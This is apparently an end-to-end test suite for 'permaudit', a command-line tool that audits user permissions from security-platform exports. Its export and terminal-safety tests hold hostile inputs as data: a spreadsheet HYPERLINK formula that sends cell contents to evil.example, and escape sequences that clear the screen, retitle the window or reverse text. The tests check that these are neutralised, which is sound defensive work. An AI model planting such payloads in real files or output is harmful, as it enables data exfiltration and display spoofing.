// The CLI as a user runs it: the built bundle in a separate process, exit codes and output included.
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { CLI_BIN, prepareCli, root, runCli } from '../support/cli';
import { beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../electron/store/database';
import { APP_VERSION } from '../../shared/app-info';
import { writeSnapshot } from '../store/helpers';
import { writeHuntressCsv } from '../support/huntress-csv';

const fixture = path.join(root, 'tests/fixtures/huntress-small.csv');
let dir: string;
let db: string;

const run = (...args: string[]) => runCli(dir, ...args);

beforeAll(() => {
  dir = prepareCli('permaudit-cli-');
  db = path.join(dir, 'audit.db');
  const imported = run('import', fixture, '--platform', 'huntress', '--db', db, '--name', 'November review');
  expect(imported.stderr).toBe('');
  expect(imported.code).toBe(0);
});

describe('permaudit import', () => {
  it('reports the snapshot it created with its files and counts', () => {
    const again = run('import', fixture, '--platform', 'huntress', '--db', db, '--json', '--allow-duplicate');
    expect(again.code).toBe(0);
    const info = JSON.parse(again.stdout);
    expect(info).toMatchObject({ platform: 'huntress', userCount: 7, assignmentCount: 8, nodeCount: 3 });
    expect(info.files[0]).toMatchObject({ name: 'huntress-small.csv', rows: 8, size: fs.statSync(fixture).size });
    expect(info.files[0].sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(info.files[0].encoding).toBe('utf-8');
    expect(info.provenance).toMatchObject({
      snapshot: { id: info.id, platform: 'huntress' },
      sourceFiles: info.files,
      question: { kind: 'import' },
    });
    run('snapshots', '--db', db); // keep the db usable for the other tests
  });

  it('fails with FILE:LINE problems, exit 1, and leaves the database as it was', () => {
    const bad = path.join(dir, 'bad.csv');
    fs.writeFileSync(
      bad,
      'email,name,role,account,organization\nnot-an-email,X,Admin,Northwind MSP,\nzed@x.example,Zed,Superuser,Northwind MSP,\n',
    );
    const before = run('snapshots', '--db', db, '--json').stdout;
    const result = run('import', bad, '--platform', 'huntress', '--db', db);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('bad.csv:2:');
    expect(result.stderr).toContain('bad.csv:3:');
    expect(result.stderr).toMatch(/unknown role "Superuser"/);
    expect(run('snapshots', '--db', db, '--json').stdout).toBe(before);
  });
});

describe('permaudit import: what it refuses and what it takes', () => {
  it('refuses the same files again, naming the snapshot, with exit 1 and a hint', () => {
    const result = run('import', fixture, '--platform', 'huntress', '--db', db);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(
      /^permaudit: these files were already imported as snapshot #1 "November review" on \d{4}-\d\d-\d\d at \d\d:\d\d UTC; nothing was imported\nhint: add --allow-duplicate to import them as another snapshot anyway\n$/,
    );
  });

  it('names the platform an export fits, and takes a missing scope level with --set; shows the encoding', () => {
    const orgs = path.join(dir, 'orgs.csv');
    fs.writeFileSync(
      orgs,
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from('email\tname\trole\torganization\r\nzoe@praxis.example\tZoë\tAdmin\tPraxis Müller\r\n', 'utf16le'),
      ]),
    );
    const refused = run('import', orgs, '--platform', 'huntress', '--db', db);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('orgs.csv:1: missing required column "account" (headers: "email", "name", "role", "organization")');
    expect(refused.stderr).toContain(
      'hint: map a column to it with --map account="HEADER", or give every row one value with --set account="VALUE"',
    );
    const hyas = path.join(dir, 'hyas.csv');
    fs.writeFileSync(hyas, 'email,role,partner,mssp,organization\nann@cobalt.example,Partner Admin,Cobalt,,\n');
    const wrong = run('import', hyas, '--platform', 'huntress', '--db', db).stderr;
    expect(wrong).toContain(
      'hyas.csv:1: these columns look like a HYAS Protect export (platform hyas-protect): partner, mssp, organization',
    );
    expect(wrong).toContain('hint: import them with --platform hyas-protect');
    const set = run(
      'import',
      orgs,
      '--platform',
      'huntress',
      '--db',
      path.join(dir, 'orgs.db'),
      '--set',
      'account=Northwind MSP',
      '--name',
      'orgs',
    );
    expect(set.stderr).toBe('');
    expect(set.code).toBe(0);
    expect(set.stdout).toMatch(/orgs\.csv +1 +\d+ +UTF-16 LE\n[\s\S]*\n[0-9a-f]{64} {2}orgs\.csv$/m);
    expect(run('import', orgs, '--platform', 'huntress', '--db', db, '--date-format', 'dym').code).toBe(2);
  });

  it('a slash date that reads two ways: the problem says so in plain words, and the CLI says which flag settles it', () => {
    const ambiguous = path.join(dir, 'ambiguous.csv');
    fs.writeFileSync(ambiguous, 'email,name,role,account,last_login\nann@x.example,Ann,Admin,Northwind MSP,03/04/2024\n');
    const result = run('import', ambiguous, '--platform', 'huntress', '--db', path.join(dir, 'ambiguous.db'));
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      'ambiguous.csv:2: last_login (column 5) is "03/04/2024", which could be day/month or month/day; say which order',
    );
    expect(result.stderr).toContain('hint: say the order with --date-format dmy (day first) or --date-format mdy (month first)');
    expect(run('import', ambiguous, '--platform', 'huntress', '--db', path.join(dir, 'ambiguous.db'), '--date-format', 'dmy').code).toBe(0);
  });
});

describe('permaudit queries', () => {
  it('who-can --json gives email, role, assignedAt and scope for each grant', () => {
    const result = run(
      'who-can',
      'Approve Assisted Remediation',
      '--db',
      db,
      '--snapshot',
      '1',
      '--scope',
      'Northwind MSP/Harbor Law',
      '--json',
    );
    expect(result.code).toBe(0);
    const entries = JSON.parse(result.stdout) as { email: string; role: string; assignedAt: string; scope: string }[];
    expect(entries.map((e) => [e.email, e.role, e.assignedAt, e.scope])).toEqual([
      ['ada@northwind.example', 'Admin', 'Northwind MSP', 'Northwind MSP/Harbor Law'],
      ['bob@northwind.example', 'User', 'Northwind MSP', 'Northwind MSP/Harbor Law'],
      ['carol@bayside.example', 'Admin', 'Northwind MSP/Harbor Law', 'Northwind MSP/Harbor Law'],
    ]);
  });

  it('who-can prints an aligned table that fits 80 columns', () => {
    const result = run('who-can', 'approve assisted remediation', '--db', db, '--snapshot', '1');
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^\d+ people can "Approve Assisted Remediation"\n/);
    for (const line of result.stdout.trimEnd().split('\n')) expect([...line].length).toBeLessThanOrEqual(80);
  });

  it('can answers no with exit 0 and the reasons', () => {
    const result = run(
      'can',
      'eve@harbor.example',
      'Approve Assisted Remediation',
      '--db',
      db,
      '--scope',
      'Northwind MSP/Harbor Law',
      '--json',
    );
    expect(result.code).toBe(0);
    const answer = JSON.parse(result.stdout);
    expect(answer.allowed).toBe(false);
    expect(answer.reasons[0].text).toMatch(/Read-Only · organization at Northwind MSP\/Harbor Law applies here but does not grant/);
  });

  it('can answers yes for the model version in force: org Admins approve remediation since 2022-06', () => {
    const old = run('import', fixture, '--platform', 'huntress', '--db', db, '--as-of', '2021-01-01', '--name', 'old');
    // the fixture holds a Finance user, a role that did not exist before June 2022
    expect(old.code).toBe(1);
    expect(old.stderr).toMatch(/huntress-small.csv:4: .*Finance/);
    const yes = run(
      'can',
      'carol@bayside.example',
      'Approve Assisted Remediation',
      '--db',
      db,
      '--snapshot',
      '1',
      '--scope',
      'Northwind MSP/Bayside Dental',
    );
    expect(yes.stdout.replace(/\s+/g, ' ')).toMatch(
      /^YES: carol@bayside.example can "Approve Assisted Remediation" at Northwind MSP\/Bayside Dental/,
    );
  });

  it('refuses an impossible --as-of, naming the flag', () => {
    for (const args of [
      ['permissions', '--platform', 'huntress'],
      ['import', fixture, '--platform', 'huntress', '--db', db],
    ]) {
      const result = run(...args, '--as-of', '2022-02-30');
      expect(result.code).toBe(1);
      expect(result.stderr).toBe('permaudit: --as-of must be a day of the calendar written YYYY-MM-DD, got "2022-02-30"\n');
    }
  });

  it("checks its flags with the contract's schemas, naming the flag, with exit 2", () => {
    const refused = (args: string[], message: string) => {
      const result = run(...args);
      expect(result.code).toBe(2);
      expect(result.stderr.split('\n')[0]).toBe(`permaudit: ${message}`);
      expect(result.stdout).toBe('');
    };
    refused(['who-can', 'View Reports', '--db', db, '--snapshot', 'abc'], '--snapshot must be a whole number of at least 1, got "abc"');
    refused(
      ['matrix', '--db', db, '--snapshot', '0', '--channel', 'fax'],
      '--snapshot must be a whole number of at least 1, got 0; --channel must be one of ui, api, got "fax"',
    );
    refused(['can', 'eve@harbor.example', 'View Reports', '--db', db], '--scope is required');
    refused(['who-can', '', '--db', db], 'PERMISSION must not be empty');
    refused(['roles', '--platform', 'huntress', '--as-of', '2022/06/01'], '--as-of must be a date written YYYY-MM-DD, got "2022/06/01"');
    refused(['import', fixture, '--db', path.join(dir, 'never.db')], '--platform is required (or --model FILE)');
    expect(fs.existsSync(path.join(dir, 'never.db'))).toBe(false);
  });

  it('access lists what a user can do node by node', () => {
    const result = run('access', 'carol@bayside.example', '--db', db, '--json');
    expect(result.code).toBe(0);
    const access = JSON.parse(result.stdout);
    expect(access.nodes.map((n: { node: { path: string } }) => n.node.path)).toEqual([
      'Northwind MSP/Bayside Dental',
      'Northwind MSP/Harbor Law',
    ]);
  });

  it('who-can lists first the people an export marks suspended or without MFA', () => {
    const text = run('who-can', 'View Reports', '--db', db, '--snapshot', '1', '--scope', 'Northwind MSP/Bayside Dental').stdout;
    const check = text.slice(text.indexOf('Check first'));
    expect(check).toContain('dan@bayside.example: suspended, no MFA');
    expect(check).toContain('ro@northwind.example: no MFA');
    expect(check).not.toContain('ada@northwind.example');
    const dan = JSON.parse(
      run('who-can', 'View Reports', '--db', db, '--snapshot', '1', '--scope', 'Northwind MSP/Bayside Dental', '--json').stdout,
    ).find((e: { email: string }) => e.email === 'dan@bayside.example');
    expect(dan).toMatchObject({ status: 'suspended', mfa: 'disabled' });
  });

  it('access counts the tenants an account role reaches, not only where it is held', () => {
    const text = run('access', 'ada@northwind.example', '--db', db, '--snapshot', '1').stdout;
    expect(text).toContain('Roles at 1 tenant, reaching 3 tenants.');
    expect(text).toContain('Status active · MFA enabled · last login 2026-10-01 (as the export says)');
    const ro = run('access', 'ro@northwind.example', '--db', db, '--snapshot', '1').stdout;
    expect(ro).toContain('Status active · MFA disabled · last login unknown');
    expect(JSON.parse(run('access', 'ada@northwind.example', '--db', db, '--snapshot', '1', '--json').stdout).reachCount).toBe(3);
  });

  it('matrix exports CSV with a header of permission labels', () => {
    const result = run('matrix', '--db', db, '--snapshot', '1', '--scope', 'Northwind MSP/Harbor Law', '--format', 'csv');
    expect(result.code).toBe(0);
    const [header, ...rows] = result.stdout.trim().split('\r\n');
    expect(header.startsWith('email,name,status,mfa,roles,')).toBe(true);
    expect(rows.map((r) => r.split(',')[0])).toEqual([
      'ada@northwind.example',
      'bob@northwind.example',
      'carol@bayside.example',
      'eve@harbor.example',
      'fin@northwind.example',
      'ro@northwind.example',
    ]);
  });

  it('matrix without a scope answers at the root, in the same words as the UI: an org Admin is "below only"', () => {
    const whole = run('matrix', '--db', db, '--snapshot', '1', '--format', 'csv');
    const atRoot = run('matrix', '--db', db, '--snapshot', '1', '--scope', 'Northwind MSP', '--format', 'csv');
    expect(whole.code).toBe(0);
    expect(whole.stdout).toBe(atRoot.stdout);
    const [header, ...rows] = whole.stdout
      .trim()
      .split('\r\n')
      .map((line) => line.split(','));
    const approve = header.indexOf('Approve Assisted Remediation');
    const carol = rows.find((r) => r[0] === 'carol@bayside.example')!;
    expect(carol[approve]).toBe('below only');
    expect(rows.find((r) => r[0] === 'ada@northwind.example')![approve]).toBe('yes');
    expect(run('matrix', '--db', db, '--snapshot', '1').stdout).toMatch(/^Access matrix at Northwind MSP/);
  });

  it('permissions --json lists ids and labels; roles and platforms answer without a database', () => {
    const perms = JSON.parse(run('permissions', '--platform', 'hyas-protect', '--json').stdout);
    expect(perms.find((p: { label: string }) => p.label === 'View Blocking Mode')).toHaveProperty('id');
    expect(run('roles', '--platform', 'hexiosec-asm').stdout).toContain('Owner');
    expect(run('platforms').stdout).toMatch(/huntress[\s\S]*hyas-protect[\s\S]*hexiosec-asm/);
  });
});

describe('permaudit exports', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
  let hostileDb: string;
  beforeAll(() => {
    const file = path.join(dir, 'hostile.csv');
    fs.writeFileSync(
      file,
      `email,name,role,account,organization\nmallory@bayside.example,"${HOSTILE.replace(/"/g, '""')}",Admin,Northwind MSP,Bayside Dental\n`,
    );
    hostileDb = path.join(dir, 'hostile.db');
    expect(run('import', file, '--platform', 'huntress', '--db', hostileDb, '--name', 'Hostile').code).toBe(0);
  });
  const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true }).data;

  it('matrix --format csv writes a hostile name from the import so a spreadsheet shows it as text', () => {
    const result = run('matrix', '--db', hostileDb, '--format', 'csv');
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(parse(result.stdout)[0]).toMatchObject({ email: 'mallory@bayside.example', name: `'${HOSTILE}` });
  });

  it('who-can --format csv does too, citing the vendor page by title and line', () => {
    const result = run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--format', 'csv');
    expect(result.code).toBe(0);
    const [row] = parse(result.stdout);
    expect(row).toMatchObject({
      name: `'${HOSTILE}`,
      import_row: 'hostile.csv:2',
      grant_source: 'Huntress — “Setting Huntress User Permissions”, lines 63, 5, 68',
    });
  });

  it('who-can --json stays an array of entries; --format json wraps them with the provenance', () => {
    const entries = JSON.parse(run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--json').stdout);
    expect(Array.isArray(entries)).toBe(true);
    expect(entries[0]).toMatchObject({
      email: 'mallory@bayside.example',
      name: HOSTILE,
      grantSource: [{ file: '000_96d95d6678d9722e.txt', line: 63, title: 'Setting Huntress User Permissions' }, {}, {}],
    });
    const wrapped = JSON.parse(
      run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--scope', 'Northwind MSP', '--format', 'json').stdout,
    );
    expect(wrapped.entries).toEqual(entries);
    expect(wrapped.provenance).toMatchObject({
      generator: { name: 'Permission Auditor' },
      snapshot: { name: 'Hostile', platform: 'huntress', platformName: 'Huntress', modelVersion: '2022-06' },
      sourceFiles: [{ name: 'hostile.csv', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }],
      question: { kind: 'who-can', permission: 'remediation.approve', scope: 'Northwind MSP', channel: null },
    });
    expect(Date.parse(wrapped.provenance.generatedAt)).not.toBeNaN();
    expect(wrapped.provenance.generatedAt).toMatch(/Z$/);
    expect(run('who-can', 'View Reports', '--db', hostileDb, '--json', '--format', 'csv').code).toBe(2);
  });

  it('can, access and matrix JSON carry the provenance of their question', () => {
    const can = JSON.parse(
      run(
        'can',
        'mallory@bayside.example',
        'Approve Assisted Remediation',
        '--db',
        hostileDb,
        '--scope',
        'Northwind MSP/Bayside Dental',
        '--channel',
        'api',
        '--json',
      ).stdout,
    );
    expect(can.allowed).toBe(true);
    expect(can.provenance.question).toEqual({
      kind: 'can',
      permission: 'remediation.approve',
      scope: 'Northwind MSP/Bayside Dental',
      channel: 'api',
      email: 'mallory@bayside.example',
      filters: {},
    });
    expect(can.reasons[0].chain.grantSource[0].title).toBe('Setting Huntress User Permissions');
    const access = JSON.parse(run('access', 'mallory@bayside.example', '--db', hostileDb, '--json').stdout);
    expect(access.provenance.question).toMatchObject({ kind: 'access', email: 'mallory@bayside.example' });
    expect(access.nodes[0].node.path).toBe('Northwind MSP/Bayside Dental');
    const matrix = JSON.parse(run('matrix', '--db', hostileDb, '--scope', 'Northwind MSP', '--format', 'json').stdout);
    expect(matrix.provenance.question).toMatchObject({ kind: 'matrix', scope: 'Northwind MSP', channel: null });
    expect(matrix.rows[0].email).toBe('mallory@bayside.example');
  });

  it("can's reasons cite the vendor page in one line each, within 80 columns", () => {
    const result = run(
      'can',
      'mallory@bayside.example',
      'Approve Assisted Remediation',
      '--db',
      hostileDb,
      '--scope',
      'Northwind MSP/Bayside Dental',
    );
    expect(result.stdout).toContain('    per Huntress — “Setting Huntress User Permissions”, lines 63, 5, 68\n');
    for (const line of result.stdout.trimEnd().split('\n')) expect([...line].length).toBeLessThanOrEqual(80);
  });
});

describe('permaudit errors', () => {
  it('exits 2 with usage for an unknown command or flag; the usage fits an 80-column terminal', () => {
    const unknown = run('frobnicate');
    expect(unknown.code).toBe(2);
    expect(unknown.stderr.split('\n')[0]).toBe('permaudit: unknown command "frobnicate"');
    const help = run('--help');
    expect(help.code).toBe(0);
    for (const line of help.stdout.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
    const result = run('who-can', 'View Logs', '--db', db, '--bogus');
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--bogus/);
  });

  it('exits 1 with a clear message for an unknown permission, user, scope or database', () => {
    expect(run('who-can', 'Fly', '--db', db).stderr).toMatch(/unknown permission "Fly"/);
    expect(run('can', 'nobody@x.example', 'View Reports', '--db', db, '--scope', 'Northwind MSP').stderr).toMatch(/no user with email/);
    expect(run('who-can', 'View Reports', '--db', db, '--scope', 'Nowhere').stderr).toMatch(/no tenant node at "Nowhere"/);
    const missing = run('snapshots', '--db', path.join(dir, 'missing.db'));
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/no database at/);
  });

  it('rejects a platform it does not know, listing the ones it does', () => {
    const result = run('permissions', '--platform', 'okta');
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/unknown platform "okta".*huntress/);
  });
});

describe('permaudit output cannot drive the terminal', () => {
  // Names an export could carry: clear the screen, retitle the window (OSC), reverse the text (RLO).
  const CLEAR = '\x1b[2J';
  const TITLE = '\x1b]0;pwned\x07';
  const RLO = '\u202e';
  let hostile: string;

  beforeAll(() => {
    // The importer refuses these characters in a cell, so the snapshot is written directly.
    hostile = path.join(dir, 'hostile.db');
    const harbor = `Harbor${TITLE} Law`;
    const sql = openDatabase(hostile);
    writeSnapshot(
      sql,
      {
        nodes: [
          { id: 1, parentId: null, depth: 0, name: 'Northwind MSP', path: 'Northwind MSP' },
          { id: 2, parentId: 1, depth: 1, name: harbor, path: `Northwind MSP/${harbor}` },
        ],
        users: [
          { id: 1, email: 'ada@northwind.example', name: `Ada${CLEAR} Lovelace` },
          { id: 2, email: `eve${RLO}@harbor.example`, name: 'Eve Ng' },
        ],
        assignments: [
          { id: 1, userId: 1, nodeId: 1, roleId: 'account-admin', sourceFile: 'users.csv', sourceLine: 2 },
          { id: 2, userId: 2, nodeId: 2, roleId: 'org-read-only', sourceFile: 'users.csv', sourceLine: 3 },
        ],
      },
      { name: `Nov${RLO}weiver`, platform: 'huntress', modelVersion: '2022-06', levels: ['account', 'organization'] },
    );
    sql.close();
  });

  it('shows control and bidi characters escaped in every text output and error, and keeps JSON exact', () => {
    const outputs = [
      run('snapshots', '--db', hostile),
      run('who-can', 'View Reports', '--db', hostile),
      run('access', 'ada@northwind.example', '--db', hostile),
      run('access', `eve${RLO}@harbor.example`, '--db', hostile),
      run('can', `eve${RLO}@harbor.example`, 'View Reports', '--db', hostile, '--scope', `Northwind MSP/Harbor${TITLE} Law`),
      run('matrix', '--db', hostile, '--scope', `Northwind MSP/Harbor${TITLE} Law`),
      run('access', `mallory${CLEAR}@evil.example`, '--db', hostile),
      run('who-can', 'View Reports', '--db', hostile, '--scope', `Nowhere${TITLE}`),
    ];
    for (const { stdout, stderr } of outputs) {
      for (const raw of ['\x1b', '\x07', RLO]) {
        expect(stdout.includes(raw) || stderr.includes(raw), JSON.stringify(stdout + stderr)).toBe(false);
      }
    }
    const text = outputs.map((o) => o.stdout + o.stderr);
    expect(text[0]).toContain('Nov\\u202eweiver');
    expect(text[1]).toContain('eve\\u202e@harbor.example'); // a table cell, escaped and whole (a key is never cut)
    expect(text[3]).toContain('Northwind MSP/Harbor\\x1b]0;pwned\\x07 Law');
    expect(text[2]).toContain('Ada\\x1b[2J Lovelace');
    expect(text[4]).toMatch(/^YES: eve\\u202e@harbor\.example can/);
    expect(text[5]).toContain('eve\\u202e@harbor.example');
    expect(text[6]).toMatch(/^permaudit: .*mallory\\x1b\[2J@evil\.example/);
    expect(text[7]).toMatch(/^permaudit: .*Nowhere\\x1b\]0;pwned\\x07/);

    const json = JSON.parse(run('snapshots', '--db', hostile, '--json').stdout);
    expect(json[0].name).toBe(`Nov${RLO}weiver`);
  });
});

describe('Ctrl+C during permaudit import', () => {
  it('cancels the import: exit 130, a short message, the database as it was', { timeout: 120_000 }, async () => {
    const big = writeHuntressCsv(path.join(dir, 'sigint.csv'), 400_000, 'sigint');
    const before = run('snapshots', '--db', db, '--json').stdout;
    // --progress: the progress line, though stderr is a pipe here; the signal goes once it appears.
    const child = spawn(process.execPath, [CLI_BIN, 'import', big, '--platform', 'huntress', '--db', db, '--progress'], { cwd: dir });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
      const first = !stderr.includes('importing ');
      stderr += chunk;
      if (first && stderr.includes('importing ')) child.kill('SIGINT');
    });
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(130);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/permaudit: the import was cancelled; nothing was written\n$/);
    expect(run('snapshots', '--db', db, '--json').stdout).toBe(before);
  });
});

describe('permaudit help and version', () => {
  const COMMANDS = [
    'import',
    'models',
    'snapshots',
    'platforms',
    'permissions',
    'roles',
    'who-can',
    'can',
    'access',
    'matrix',
    'diff',
    'what-if',
    'plans',
    'review',
    'diff-model',
  ];
  const fits = (text: string) => {
    for (const line of text.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
  };

  it.each(COMMANDS)('%s: --help and help COMMAND print its usage, flags and examples, exit 0, within 80 columns', (name) => {
    const help = run(name, '--help');
    expect(help.code).toBe(0);
    expect(help.stderr).toBe('');
    expect(help.stdout).toMatch(new RegExp(`^Usage: permaudit ${name} `));
    expect(help.stdout).toContain('\nOptions:\n');
    expect(help.stdout).toMatch(new RegExp(`\nExamples:\n  permaudit ${name}[ \n]`));
    for (const other of COMMANDS.filter((c) => c !== name)) expect(help.stdout).not.toContain(`permaudit ${other} `);
    fits(help.stdout);
    expect(run('help', name)).toEqual(help);
  });

  it('who-can --help names its flags and what they take', () => {
    const { stdout } = run('who-can', '--help');
    for (const flag of ['--db <DB>', '--snapshot <ID>', '--scope <PATH>', '--channel <ui|api>', '--json', '--format <table|json|csv>'])
      expect(stdout).toContain(`  ${flag} `);
    expect(stdout).toContain('  PERMISSION ');
    expect(run('import', '--help').stdout).toMatch(/--map <field=Header> +.*\(repeatable\)|--map <field=Header>[\s\S]*repeatable/);
  });

  it('--help lists every command; --version and -V print the version; exit 0', () => {
    const help = run('--help');
    expect(help.code).toBe(0);
    for (const name of COMMANDS) expect(help.stdout).toMatch(new RegExp(`\n  ${name}( [A-Z_.[\\]]+)* +[a-z]`));
    expect(help.stdout).toContain(
      "Exit codes: 0 answered, 1 bad input, 2 usage error, 3 new access found\n(what-if --no-new-access), 4 a review's log does not verify (review verify),\n130 import cancelled.",
    );
    expect(run('help')).toEqual(help);
    for (const flag of ['--version', '-V']) expect(run(flag)).toEqual({ code: 0, stdout: `${APP_VERSION}\n`, stderr: '' });
  });

  it('without a command lists the commands on stderr, exit 2', () => {
    const result = run();
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('  who-can PERMISSION ');
  });

  it("a usage error prints the message, then that command's usage only, exit 2", () => {
    const expectUsage = (args: string[], message: string, name: string) => {
      const result = run(...args);
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      const [first, blank, usage, ...rest] = result.stderr.split('\n');
      expect(first).toBe(`permaudit: ${message}`);
      expect(blank).toBe('');
      expect(usage).toMatch(new RegExp(`^Usage: permaudit ${name} `));
      expect(rest.join('\n')).toContain(`Run "permaudit help ${name}" for its options and examples.`);
      for (const other of COMMANDS.filter((c) => c !== name)) expect(result.stderr).not.toContain(`permaudit ${other}`);
      expect(result.stderr).not.toContain('Options:');
      fits(result.stderr);
    };
    expectUsage(['who-can', 'View Reports', '--db', db, '--bogus'], 'unknown option "--bogus"', 'who-can');
    expectUsage(['who-can', '--db', db], 'missing required argument "PERMISSION"', 'who-can');
    expectUsage(['matrix', 'extra', '--db', db], 'too many arguments for "matrix". Expected 0 arguments but got 1.', 'matrix');
    expectUsage(['matrix', '--db', db, '--channel', 'fax'], '--channel must be one of ui, api, got "fax"', 'matrix');
    expectUsage(['can', 'eve@harbor.example', 'View Reports', '--db'], 'option "--db <DB>" argument missing', 'can');
    expectUsage(
      ['import', fixture, '--platform', 'huntress', '--db', db, '--map', 'email'],
      '--map takes field=Header, got "email"',
      'import',
    );
  });

  it('a mistyped command suggests the one meant, exit 2', () => {
    for (const args of [
      ['who-cna', 'View Reports', '--db', db],
      ['help', 'who-cna'],
    ]) {
      const result = run(...args);
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr.split('\n')[0]).toBe('permaudit: unknown command "who-cna" (did you mean who-can?)');
      expect(result.stderr).toContain('Run "permaudit --help" for the commands.');
    }
    expect(run('snapshot', '--db', db).stderr.split('\n')[0]).toBe('permaudit: unknown command "snapshot" (did you mean snapshots?)');
  });
});

describe('permaudit into a pipe closed early', () => {
  let big: string;
  beforeAll(() => {
    big = path.join(dir, 'pipe.db');
    const csv = writeHuntressCsv(path.join(dir, 'pipe.csv'), 5000, 'pipe');
    expect(run('import', csv, '--platform', 'huntress', '--db', big).code).toBe(0);
  });

  it('exits 0 without a stack trace when the reader goes away after the first chunk', { timeout: 60_000 }, async () => {
    // 5,000 entries of JSON, megabytes: far more than a pipe holds, so the CLI is still writing when the pipe closes.
    expect(run('who-can', 'View Reports', '--db', big, '--json').stdout.length).toBeGreaterThan(1_000_000);
    const child = spawn(process.execPath, [path.join(root, 'dist/cli.cjs'), 'who-can', 'View Reports', '--db', big, '--json'], {
      cwd: dir,
    });
    let stderr = '';
    let chunks = 0;
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.stdout.on('data', () => {
      if (chunks++ === 0) child.stdout.destroy();
    });
    const [code, signal] = await new Promise<[number | null, NodeJS.Signals | null]>((resolve) =>
      child.on('close', (c, s) => resolve([c, s])),
    );
    expect(chunks).toBeGreaterThan(0);
    expect(stderr).toBe('');
    expect(signal).toBeNull();
    expect(code).toBe(0);
  });

  it('is quiet in a shell pipeline into head -1 as well', () => {
    const result = spawnSync(
      'sh',
      ['-c', `"${process.execPath}" "${path.join(root, 'dist/cli.cjs')}" who-can "View Reports" --db "${big}" --json | head -1`],
      { encoding: 'utf8', cwd: dir },
    );
    expect(result.stdout).toBe('[\n');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
  });
});

describe('several platforms in one database', () => {
  it("asks the newest snapshot of a platform with --platform, and says which one to ask when a permission is another platform's", () => {
    const mixed = path.join(dir, 'mixed.db');
    const samples = path.join(root, 'resources/samples');
    expect(run('import', path.join(samples, 'huntress-msp.csv'), '--platform', 'huntress', '--db', mixed).code).toBe(0);
    expect(run('import', path.join(samples, 'hexiosec-asm.csv'), '--platform', 'hexiosec-asm', '--db', mixed).code).toBe(0);

    const newest = run('who-can', 'Approve Assisted Remediation', '--db', mixed, '--scope', 'Bayside Dental');
    expect(newest.code).toBe(1);
    expect(newest.stderr).toContain(
      'is a Huntress permission: ask snapshot #1, the newest of Huntress (--snapshot 1 or --platform huntress)',
    );

    const huntress = run('who-can', 'Approve Assisted Remediation', '--db', mixed, '--platform', 'huntress', '--scope', 'bayside dental');
    expect(huntress.code).toBe(0);
    expect(huntress.stdout).toContain('in Northwind MSP/Bayside Dental');

    const listed = JSON.parse(run('snapshots', '--db', mixed, '--platform', 'huntress', '--json').stdout) as { platform: string }[];
    expect(listed.map((s) => s.platform)).toEqual(['huntress']);
  });

  it("lists the permissions of the newest snapshot's platform with --db alone, and says what to give with neither", () => {
    const permissions = run('permissions', '--db', db, '--json');
    expect(permissions.code).toBe(0);
    expect((JSON.parse(permissions.stdout) as { id: string }[]).map((p) => p.id)).toContain('remediation.approve');
    const neither = run('permissions');
    expect(neither.code).toBe(2);
    expect(neither.stderr).toContain("give --platform ID, or --db DB to use the newest snapshot's platform");
  });
});
